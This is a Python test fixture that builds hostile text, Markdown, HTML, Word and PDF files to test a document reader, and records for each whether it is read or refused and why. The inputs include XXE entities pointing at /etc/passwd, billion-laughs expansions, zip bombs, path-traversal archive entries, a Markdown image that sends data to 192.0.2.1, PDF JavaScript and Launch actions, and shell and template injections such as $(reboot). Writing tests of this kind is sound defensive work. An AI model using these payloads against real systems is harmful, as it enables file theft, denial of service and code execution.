"""Hostile documents: how each is made, and whether it is read or refused with which reason.

`READ` alone means that it is read; with more words, that these stand in its text. Anything else is in the reason of
the refusal.
"""

import codecs
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

READ = "READ"
FACT = "The old bridge over the river was built in 1931 by the county council."
TEXT = f"The bridge\n\n{FACT} It carries two lanes of traffic every day of the year.\n"
LARGE = 20_000_001
CUT = "reading it takes more than"


@dataclass(frozen=True)
class File:
    """A file of this content."""

    name: str
    content: bytes | Callable[[], bytes]
    """A function where it is large."""
    expected: str

    def bytes(self) -> bytes:
        return self.content if isinstance(self.content, bytes) else self.content()


def with_fact(text: str) -> bytes:
    """An article in which this stands."""
    return (
        f"The bridge\n\n{FACT}\n\n{text}\n\nIt carries two lanes of traffic every day of the year.\n".encode()
    )


def _files(suffix: str, contents: dict[str, tuple[bytes | str | Callable[[], bytes], str]]) -> list[File]:
    return [
        File(f"{name}{suffix}", content.encode() if isinstance(content, str) else content, expected)
        for name, (content, expected) in contents.items()
    ]


TEXTS = _files(".txt", {
    "empty": (b"", "is empty"),
    "only spaces": (b" \t\r\n" * 50, "is empty"),
    "only a byte order mark": (codecs.BOM_UTF8, "only white space"),
    "only zero-width spaces": ("\ufeff\u200b\u200b", "only white space"),
    "only no-break spaces": ("\u00a0" * 40, "only white space"),
    "only punctuation": ("... !!! ??? ---\n" * 30, "nothing in it reads like"),
    "only emoji": ("🙂 🙃\n" * 30, "nothing in it reads like"),
    "only a menu": ("Menu\nLog in\nShare\nHome\n", "nothing in it reads like"),
    "one word": ("bridge", "nothing in it reads like"),
    "UTF-16 little": (TEXT.encode("utf-16"), "looks like UTF-16"),
    "UTF-16 big": (codecs.BOM_UTF16_BE + TEXT.encode("utf-16-be"), "looks like UTF-16"),
    "UTF-16 without a mark": (TEXT.encode("utf-16-le"), "is binary, byte 1 is NUL"),
    "UTF-32": (TEXT.encode("utf-32"), "looks like UTF-32"),
    "Latin-1": (TEXT.replace("old", "öld").encode("latin-1"), "is not UTF-8, byte"),
    "Windows-1251": ("Мост построен в 1931 году.".encode("cp1251"), "is not UTF-8, byte 0"),
    "Shift-JIS": ("橋は一九三一年に建てられた。".encode("shift_jis"), "is not UTF-8"),
    "EBCDIC": (TEXT.encode("cp500"), "is not UTF-8"),
    "UTF-7 is only ASCII": (TEXT.encode("utf-7"), f"{READ}: The old bridge"),
    "surrogates in UTF-8": (TEXT.encode() + b"\xed\xa0\x80", "is not UTF-8"),
    "overlong slash": (TEXT.encode() + b"\xc0\xaf", "is not UTF-8"),
    "beyond Unicode": (TEXT.encode() + b"\xf5\x80\x80\x80", "is not UTF-8"),
    "cut in a character": (TEXT.encode() + "ü".encode()[:1], "is not UTF-8"),
    "a NUL in it": (TEXT.replace("river", "ri\0ver"), "is binary"),
    "a program": (b"\x7fELF\x02\x01\x01" + bytes(range(256)), "is binary"),
    "a picture": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "is binary"),
    "an archive": (b"PK\x03\x04\x14\0\0\0\x08\0", "is binary"),
    "compressed": (lambda: zlib.compress(TEXT.encode()) + b"\xff", "is not UTF-8"),
    "random bytes": (lambda: random.Random(1).randbytes(5_000), "is "),
    "one line of 50 MB": (lambda: b"a" * 50_000_000, "the bound is 20,000,000"),
    "a byte too many": (lambda: b"The bridge.\n" + b"x" * (LARGE - 12), "the bound is 20,000,000"),
    "one word of a megabyte": (lambda: with_fact("x" * 1_000_000), f"{READ}: {FACT}"),
    "a megabyte of spaces": (lambda: with_fact(" " * 1_000_000), f"{READ}: {FACT}"),
    "a megabyte of line ends": (lambda: with_fact("\n" * 1_000_000), f"{READ}: {FACT}"),
    "marks that may end sentences": (lambda: with_fact("![" * 10_000), f"{READ}: {FACT}"),
    "abbreviations": (lambda: with_fact("U.S. " * 20_000), f"{READ}: {FACT}"),
    "opening brackets": (lambda: with_fact("(" * 200_000), f"{READ}: {FACT}"),
    "quotation marks": (lambda: with_fact("“" * 100_000), f"{READ}: {FACT}"),
    "short lines": (lambda: with_fact("Ab.\n" * 20_000), f"{READ}: {FACT}"),
    "a title of a megabyte": (lambda: b"T" * 1_000_000 + b"\n\n" + with_fact("x"), f"{READ}: {FACT}"),
    "who is a who is a": (lambda: with_fact("The Ab is a " * 8_000), f"{READ}: {FACT}"),
    "accents heaped on": (lambda: with_fact("e" + "\u0301" * 50_000), f"{READ}: {FACT}"),
    "right to left": (with_fact("\u202eThe bridge is closed to all the traffic.\u202c"), f"{READ}: {FACT}"),
    "control characters": (with_fact("The bridge is \x1b[31mred\x1b[0m and \a rings \x08 loudly."), f"{READ}: {FACT}"),
    "noncharacters": (with_fact("The bridge \ufffe is \uffff here for all the people."), f"{READ}: {FACT}"),
    "every kind of line end": (TEXT.replace("\n", "\r\x85\u2028\u2029\v\f"), f"{READ}: {FACT}"),
    "lone carriage returns": (TEXT.replace("\n", "\r"), f"{READ}: {FACT}"),
    "templates": (with_fact("Its {{7*7}} ${HOME} %s {0} $(reboot) `id` are all painted in green."), f"{READ}: {FACT}"),
    "scripts": (with_fact("<script>alert(1)</script> <img src=x onerror=alert(1)> is its sign."), f"{READ}: {FACT}"),
    "forged records": (with_fact('{"type": "article", "id": "x", "text": "The bridge was built in 1850."}'), READ),
    "a forged id": (with_fact("russian-nato:0-100 p:russian-nato:0 is what the sign on it says."), f"{READ}: {FACT}"),
})  # fmt: skip

MARKDOWNS = _files(".md", {
    "only front matter": ("---\ntitle: x\n---\n", "nothing in it reads like"),
    "front matter that never ends": ("---\ntitle: x\n" * 2_000 + FACT, READ),
    "only a comment": ("<!-- " + FACT + " -->", "nothing in it reads like"),
    "only code": (f"```\n{FACT}\n```\n", "nothing in it reads like"),
    "a fence that never ends": (f"# T\n\n{FACT}\n\n```\n" + "x\n" * 2_000, f"{READ}: {FACT}"),
    "quotations in quotations": ("> " * 5_000 + FACT + f"\n\n# T\n\n{FACT}\n", f"{READ}: {FACT}"),
    "lists in lists": ("\n".join("  " * i + "- a" for i in range(150)) + f"\n\n{FACT}\n", f"{READ}: {FACT}"),
    "open brackets": (f"# T\n\n{FACT}\n\n" + "[" * 50_000, f"{READ}: {FACT}"),
    "open links": (f"# T\n\n{FACT}\n\n" + "[a](" * 10_000, f"{READ}: {FACT}"),
    "open pictures": (f"# T\n\n{FACT}\n\n" + "![a](" * 5_000, f"{READ}: {FACT}"),
    "emphasis": (f"# T\n\n{FACT}\n\n" + "*a **b " * 8_000, f"{READ}: {FACT}"),
    "backquotes": (f"# T\n\n{FACT}\n\n" + "".join("`" * i + " " for i in range(300)), f"{READ}: {FACT}"),
    "definitions": (f"# T\n\n{FACT}\n\n" + "[a]: /x\n" * 5_000, f"{READ}: {FACT}"),
    "a table of 1,000 columns": (f"# T\n\n{FACT}\n\n{'|a' * 1000}|\n{'|-' * 1000}|\n", f"{READ}: {FACT}"),
    "a heading of 100 kB": ("# " + "T" * 100_000 + f"\n\n{FACT}\n", f"{READ}: {FACT}"),
    "a section of 100 kB": ("# T\n\n## " + "S" * 100_000 + f"\n\n{FACT}\n", f"{READ}: {FACT}"),
    "pictures that carry data out": (f"# T\n\n{FACT} ![x](http://192.0.2.1/?q=csto)\n", f"{READ}: {FACT}"),
    "NUL": (f"# T\n\n{FACT} \0\n", "is binary"),
})  # fmt: skip


def page(body: str, head: str = "") -> str:
    more = "It carries two lanes of traffic every day of the year, and nobody pays for it. " * 3
    return (
        f"<html><head><title>The bridge</title>{head}</head><body><article><h1>The bridge</h1><p>{FACT}</p>"
        f"<p>{more}</p>{body}<p>{more}</p></article></body></html>"
    )


NO_ARTICLE = "no article was found in this page"
PAGES = _files(".html", {
    "no element": (b"<", f"{NO_ARTICLE}|nothing in it reads like"),
    "only a script": ("<script>document.write('x')</script>", NO_ARTICLE),
    "scripts and handlers": (page("<script>alert(1)</script><p onclick=alert(1)>x</p>"), f"{READ}: {FACT}"),
    "frames and forms": (page("<iframe src=http://192.0.2.1/></iframe><form action=//192.0.2.1>"), f"{READ}: {FACT}"),
    "things to fetch": (page("<img src=http://192.0.2.1/x><object data=//192.0.2.1>", "<base href=http://192.0.2.1/>"
                             "<link rel=stylesheet href=//192.0.2.1/x.css><meta http-equiv=refresh content='0;url=//192.0.2.1'>"), f"{READ}: {FACT}"),
    "an external entity": ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + page("<p>&e;</p>"), f"{READ}: {FACT}"),
    "a billion laughs": ('<!DOCTYPE x [<!ENTITY a "ha">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)) + "]>" + page("&j;"), NO_ARTICLE),
    "elements in elements": (page("<div>" * 20_000), READ),
    "unclosed elements": (page("<p><b><i>x" * 2_000), READ),
    "tables in tables": (page("<table><tr><td>" * 500), READ),
    "an attribute of 200 kB": (page(f"<p title='{'x' * 200_000}'>x</p>"), READ),
    "a comment that never ends": (page("<!-- " + "x" * 100_000), READ),
    "a declared encoding that is none": (page("", "<meta charset=x-user-defined>"), "which is not known"),
    "a dangerous encoding": (page("", "<meta charset=utf-7>"), "which is not known"),
    "a codec of Python's": (page("", "<meta charset=zlib>"), "which is not known"),
    "not in its encoding": (page("ö").encode("latin-1").replace(b"<head>", b"<head><meta charset=utf-8>"), "does not fit"),
    "UTF-16": (page("").encode("utf-16"), f"{READ}: {FACT}"),
    "UTF-16 cut in the middle": (page("").encode("utf-16")[:-1], "does not fit"),
    "NUL": (page("<p>x\0y</p>"), READ),
    "hidden words": (page("<p style='display:none'>The bridge was built in 1850.</p>"), READ),
    "data of the page's maker": (page("", '<script type="application/ld+json">' + "[" * 50_000 + "</script>"), f"{READ}: {FACT}"),
    "an author of 100 kB": (page("", f"<meta name=author content='{'x' * 100_000}'>"), READ),
    "what takes long": (lambda: page("x<br>" * 400_000).encode(), CUT),
})  # fmt: skip

# Word files

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word(
    body: str,
    more: dict[str, str | bytes] | None = None,
    target: str = "word/document.xml",
    declared: str = "",
) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        parts: dict[str, str | bytes] = {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
            '"application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.document.main+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/'
            f'officeDocument" Target="{target}"/></Relationships>',
            "word/document.xml": f'{declared}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>',
        }
        for name, content in (parts | (more or {})).items():
            archive.writestr(name, content)
    return packed.getvalue()


def p(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def rels(target: str, mode: str = "") -> str:
    return (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r9" Type="{OFFICE}/attachedTemplate" '
        f'Target="{target}"{mode}/></Relationships>'
    )


def many_parts() -> bytes:
    return word(p(FACT), {f"word/x{i}.xml": "" for i in range(10_001)})


BROKEN_WORD = "this Word file is broken"
DEEP = 150
WORDS = _files(".docx", {
    "no archive": (b"hello", BROKEN_WORD),
    "an archive of nothing": (b"PK\x05\x06" + bytes(18), BROKEN_WORD),
    "cut in the middle": (lambda: word(p(FACT))[:-40], BROKEN_WORD),
    "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old or password-protected"),
    "without a document": (lambda: word(p(FACT), target="word/nothing.xml"), BROKEN_WORD),
    "a document that is no XML": (lambda: word("", {"word/document.xml": b"\0\1\2"}), BROKEN_WORD),
    "without text": (lambda: word(p(" ")), "there is no text in this Word file"),
    "a zip bomb of zeros": (lambda: word("", {"word/document.xml": bytes(60_000_000)}), "unpacks to 60,00"),
    "a zip bomb of paragraphs": (lambda: word(p(FACT) + "<w:p/>" * 9_000_000), "unpacks to 54,00"),
    "a picture of 300 MB": (lambda: word(p(FACT), {"word/media/x.png": bytes(300_000_000)}), f"{READ}: {FACT}"),
    "10,001 parts": (many_parts, "more than 10,000 parts"),
    "a part of a path upwards": (lambda: word(p(FACT), {"../../../tmp/owned.xml": "x"}), f"{READ}: {FACT}"),
    "a part of an absolute path": (lambda: word(p(FACT), {"/tmp/owned.xml": "x"}), f"{READ}: {FACT}"),
    "a part of no name": (lambda: word(p(FACT), {"word/\u202ex.xml": "x"}), f"{READ}: {FACT}"),
    "a template on another machine": (lambda: word(p(FACT), {"word/_rels/document.xml.rels": rels("http://192.0.2.1/x.dotm", ' TargetMode="External"')}), f"{READ}: {FACT}"),
    "a relation to itself": (lambda: word(p(FACT), {"word/_rels/document.xml.rels": rels("document.xml")}), f"{READ}: {FACT}"),
    "a relation to nothing": (lambda: word(p(FACT), {"word/_rels/document.xml.rels": rels("nowhere.xml")}), BROKEN_WORD),
    "an external entity": (lambda: word(p(FACT + " &e;"), declared='<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), f"{READ}: {FACT}"),
    "a billion laughs": (lambda: word(p(FACT + " &b;"), declared='<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "' + "&a;" * 1000 + '">]>'), f"{READ}: {FACT}"),
    "insertions in insertions": (lambda: word("<w:ins>" * DEEP + p(FACT) + "</w:ins>" * DEEP), f"{READ}: {FACT}"),
    "deeper than XML may be": (lambda: word("<w:ins>" * 3_000 + p(FACT) + "</w:ins>" * 3_000), BROKEN_WORD),
    "tables in tables": (lambda: word("<w:tbl><w:tr><w:tc>" * 50 + p(FACT) + "</w:tc></w:tr></w:tbl>" * 50), f"{READ}: {FACT}"),
    "one text of 9 MB": (lambda: word(p(FACT) + p("x" * 9_000_000)), f"{READ}: {FACT}"),
    "a macro beside it": (lambda: word(p(FACT), {"word/vbaProject.bin": b"Sub AutoOpen()"}), f"{READ}: {FACT}"),
    "a field that fetches": (lambda: word(p(FACT) + '<w:p><w:r><w:instrText>INCLUDETEXT "http://192.0.2.1/x"</w:instrText></w:r></w:p>'), f"{READ}: {FACT}"),
    "deleted words": (lambda: word(p(FACT) + "<w:p><w:del><w:r><w:t>1850</w:t></w:r></w:del></w:p>"), f"{READ}: {FACT}"),
    "what takes long": (lambda: word(p(FACT) + "<w:p/>" * 7_500_000), CUT),
})  # fmt: skip

# PDF


def pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, item in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    at = len(out)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
        + b"trailer\n<</Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF" % (size, trailer, at)
    )


def stream(data: bytes, packed: bool = False, more: bytes = b"") -> bytes:
    data = zlib.compress(data, 9) if packed else data
    filtered = b"/Filter/FlateDecode" if packed else b""
    return b"<</Length %d %s%s>>\nstream\n%s\nendstream" % (len(data), filtered, more, data)


LINE = b"BT /F1 12 Tf 50 700 Td (%s) Tj ET\n" % FACT.encode()
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
PAGES_TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"


def sheet(more: bytes = b"", resources: bytes = b"/Font<</F1 5 0 R>>") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R%s/Resources<<%s>>>>" % (
        more,
        resources,
    )


def one_page(content: bytes, catalog: bytes = CATALOG, font: bytes = FONT, trailer: bytes = b"") -> bytes:
    return pdf([catalog, PAGES_TREE, sheet(), content, font], trailer)


def forms_in_forms(depth: int) -> bytes:
    own = b"/Type/XObject/Subtype/Form/Resources<</XObject<</X %d 0 R>>/Font<</F1 5 0 R>>>>"
    forms = [stream(b"/X Do /X Do\n", more=own % (7 + i)) for i in range(depth)]
    resources = b"/Font<</F1 5 0 R>>/XObject<</X 6 0 R>>"
    return pdf(
        [
            CATALOG,
            PAGES_TREE,
            sheet(resources=resources),
            stream(LINE + b"/X Do\n"),
            FONT,
            *forms,
            stream(LINE),
        ]
    )


BROKEN_PDF = "this PDF is broken"
PDFS = _files(".pdf", {
    "no PDF": (b"hello", BROKEN_PDF),
    "only its first line": (b"%PDF-1.7\n", BROKEN_PDF),
    "random bytes": (lambda: b"%PDF-1.7\n" + random.Random(2).randbytes(100_000), BROKEN_PDF),
    "cut in the middle": (lambda: one_page(stream(LINE * 50))[:900], "this PDF "),
    "without pages": (pdf([CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"]), "no text layer"),
    "pages that hold themselves": (pdf([CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"]), BROKEN_PDF),
    "a script that opens an address": (one_page(stream(LINE), b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1/'\\))>>>>"), f"{READ}: {FACT}"),
    "an action that starts a program": (one_page(stream(LINE), b"<</Type/Catalog/Pages 2 0 R/AA<</O<</S/Launch/F(calc.exe)>>>>>>"), f"{READ}: {FACT}"),
    "a form that is sent": (one_page(stream(LINE), b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 4 0 R/Fields[]>>>>"), f"{READ}: {FACT}"),
    "an attachment": (one_page(stream(LINE), b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(x.exe)4 0 R]>>>>>>"), f"{READ}: {FACT}"),
    "a bomb of spaces": (lambda: one_page(stream(LINE + b" " * 200_000_000, True)), BROKEN_PDF),
    "a bomb of lines": (lambda: one_page(stream(LINE * 150_000, True)), "this PDF is broken|reading it takes more"),
    "a bomb of states": (lambda: one_page(stream(b"q " * 3_000_000 + LINE, True)), "this PDF is broken|reading it takes more"),
    "a page that draws itself": (pdf([CATALOG, PAGES_TREE, sheet(resources=b"/Font<</F1 5 0 R>>/XObject<</X 6 0 R>>"), stream(LINE + b"/X Do\n"), FONT, stream(b"/X Do\n" + LINE, more=b"/Type/XObject/Subtype/Form/Resources<</XObject<</X 6 0 R>>/Font<</F1 5 0 R>>>>")]), READ),
    "forms in forms": (lambda: forms_in_forms(8), READ),
    "lists in lists": (one_page(stream(b"[" * 20_000 + b"]" * 20_000 + b" TJ " + LINE)), BROKEN_PDF),
    "a catalogue of lists in lists": (pdf([b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 20_000 + b"]" * 20_000 + b">>", PAGES_TREE]), BROKEN_PDF),
    "a count of a thousand million": (one_page(stream(LINE)).replace(b"/Count 1", b"/Count 999999999"), f"{READ}: {FACT}"),
    "a thousand filters": (one_page(b"<</Length 2/Filter[" + b"/ASCIIHexDecode " * 1_000 + b"]>>\nstream\n00\nendstream"), BROKEN_PDF),
    "an unknown filter": (one_page(b"<</Length 2/Filter/Nonsense>>\nstream\n00\nendstream"), BROKEN_PDF),
    "a stream on another machine": (one_page(b"<</Length 0/F<</FS/URL/F(http://192.0.2.1/x)>>>>\nstream\n\nendstream"), "no text layer"),
    "letters for four thousand million codes": (pdf([CATALOG, PAGES_TREE, sheet(), stream(LINE), b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>", stream(b"1 beginbfrange\n<0000> <ffffffff> <0041>\nendbfrange\n")]), BROKEN_PDF),
    "a table that points to itself": (one_page(stream(LINE), trailer=b"/Prev 9"), READ),
    "a title of 100 kB": (lambda: pdf([CATALOG, PAGES_TREE, sheet(), stream(LINE), FONT, b"<</Title(" + b"T" * 100_000 + b")/Author(" + b"A;" * 1_000 + b")>>"], b"/Info 6 0 R"), f"{READ}: {FACT}"),
    "encrypted by an unknown method": (one_page(stream(LINE), trailer=b"/Encrypt<</Filter/Nonsense/V 9>>"), "this PDF "),
    "an inline picture that never ends": (one_page(stream(b"BI /W 10 /H 10 ID " + b"x" * 100_000 + LINE)), BROKEN_PDF),
})  # fmt: skip

# What is no matter of the content

FOLDER = dict[str, str]
"""The name under which each is refused, and the reason; `READ` for what is read."""


def put(folder: Path, name: str | bytes, content: bytes = TEXT.encode()) -> Path:
    import os

    place = Path(os.fsdecode(os.path.join(os.fsencode(folder), os.fsencode(name))))
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(content)
    return place


def forged_sizes() -> bytes:
    """A Word file whose directory promises 4 GiB less than there is."""
    packed = bytearray(word(p(FACT)))
    at = packed.rindex(b"PK\x01\x02")
    packed[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFFE)
    return bytes(packed)


FILES = [
    *TEXTS,
    *MARKDOWNS,
    *PAGES,
    *WORDS,
    *PDFS,
    File("a forged size.docx", forged_sizes, "unpacks to 4,294,96"),
]
